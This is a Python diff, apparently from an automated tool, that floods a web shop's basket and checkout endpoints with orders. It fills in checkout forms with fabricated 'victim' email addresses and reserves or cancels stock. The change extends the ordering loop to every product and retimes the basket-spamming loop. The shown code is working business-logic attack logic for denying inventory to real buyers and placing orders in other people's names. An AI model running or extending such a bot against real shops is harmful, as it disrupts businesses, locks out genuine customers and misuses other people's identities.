@@ -40,7 +40,7 @@ class Stranger:
         self.over = threading.Event()
 
     def order(self) -> None:
-        """Place orders over all units of a product, for other people; leave every other one, and cancel the rest."""
+        """Place orders over all units of all products, for other people; leave every other one, and cancel the rest."""
         number = 0
         while not self.over.wait(0.2):
             number += 1
@@ -48,8 +48,9 @@ class Stranger:
             browser.headers.update(self.headers)
             with suppress(requests.RequestException):
                 for quantity in (UNITS, UNITS // 2, 3, 1):
-                    item = {"product": self.slugs[number % len(self.slugs)], "quantity": str(quantity)}
-                    browser.post(f"{self.web}/basket/items", data=item, timeout=30)
+                    for slug in self.slugs:
+                        item = {"product": slug, "quantity": str(quantity)}
+                        browser.post(f"{self.web}/basket/items", data=item, timeout=30)
                     page = browser.get(f"{self.web}/checkout", timeout=30).text
                     form = required_fields(page) | hidden(page) | CONTACT | {"delivery": "standard"}
                     form["email"] = f"victim-{number % 40}+{number}@example.com"
@@ -79,7 +80,7 @@ class Stranger:
 
     def begin_baskets(self) -> None:
         """Put something into a new basket, again and again."""
-        while not self.over.wait(0.1):
+        while not self.over.wait(6):
             with suppress(requests.RequestException):
                 item = {"product": self.slugs[0], "quantity": "1"}
                 answer = requests.post(f"{self.web}/basket/items", data=item, headers=self.headers, timeout=30)
